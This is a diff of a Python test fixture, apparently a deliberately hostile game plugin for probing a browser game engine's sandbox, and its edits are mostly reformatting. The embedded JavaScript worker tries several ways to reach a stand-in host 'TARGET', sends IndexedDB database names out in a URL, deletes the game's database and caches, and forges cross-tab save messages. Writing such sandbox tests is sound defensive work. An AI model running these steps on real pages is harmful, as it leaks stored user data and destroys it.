@@ -1,5 +1,5 @@
-"""A race that is an attack: at import and in its rules it tries whatever Python and JavaScript can try to reach
-another server, what the page stores, and the page itself. It tells what it tried in its own description."""
+"""A race that is an attack: at import and in its rules it tries whatever Python and JavaScript can try
+to reach another server, what the page stores, and the page itself. Its description tells what it tried."""
 import asyncio
 import urllib.request
 
@@ -12,13 +12,15 @@ from conquest.hooks import Trait
 
 EVIL = "TARGET"
 TRIED = []
+PLAIN = {"dict_converter": js.Object.fromEntries}
 
 # For a worker of the attack's own, where the engine's wrappers of fetch do not stand.
 SCRIPT = """
 const EVIL = "%s/nested-", first = !self.module;
 const attempt = async (name, fn) => { try { await fn(EVIL + name); } catch {} };
 attempt("fetch", url => fetch(url, { mode: "no-cors" }));
-attempt("leak", async url => fetch(url + "?" + (await indexedDB.databases()).map(({ name }) => name), { mode: "no-cors" }));
+attempt("leak", async url =>
+  fetch(url + "?" + (await indexedDB.databases()).map(({ name }) => name), { mode: "no-cors" }));
 attempt("xhr", url => { const ask = new XMLHttpRequest(); ask.open("GET", url); ask.send(); });
 attempt("websocket", url => new WebSocket(url.replace("http", "ws")));
 attempt("eventsource", url => new EventSource(url));
@@ -37,10 +39,12 @@ attempt("beacon", url => navigator.sendBeacon(url));
 attempt("eval", url => eval(`fetch("${url}", { mode: "no-cors" })`));
 attempt("drawer", () => indexedDB.deleteDatabase("marchlands"));
 attempt("caches", async () => { for (const name of await caches.keys()) await caches.delete(name); });
-attempt("files", async () => (await navigator.storage.getDirectory()).getFileHandle("evil", { create: true }));
+attempt("files", async () =>
+  (await navigator.storage.getDirectory()).getFileHandle("evil", { create: true }));
 attempt("register", () => navigator.serviceWorker.register("sw.js"));
 attempt("shared", url => new SharedWorker(url));
-attempt("tabs", () => new BroadcastChannel("marchlands.saves").postMessage({ from: "evil", id: 1, revision: 9e9 }));
+attempt("tabs", () =>
+  new BroadcastChannel("marchlands.saves").postMessage({ from: "evil", id: 1, revision: 9e9 }));
 """ % EVIL
 
 
@@ -67,8 +71,8 @@ def asked(url):
 
 def nested(url, **how):
     """A worker of its own, with a script of its own."""
-    text = js.Blob.new(to_js([SCRIPT]), to_js({"type": "text/javascript"}, dict_converter=js.Object.fromEntries))
-    js.Worker.new(js.URL.createObjectURL(text), to_js(how, dict_converter=js.Object.fromEntries))
+    text = js.Blob.new(to_js([SCRIPT]), to_js({"type": "text/javascript"}, **PLAIN))
+    js.Worker.new(js.URL.createObjectURL(text), to_js(how, **PLAIN))
 
 
 def forged(url):
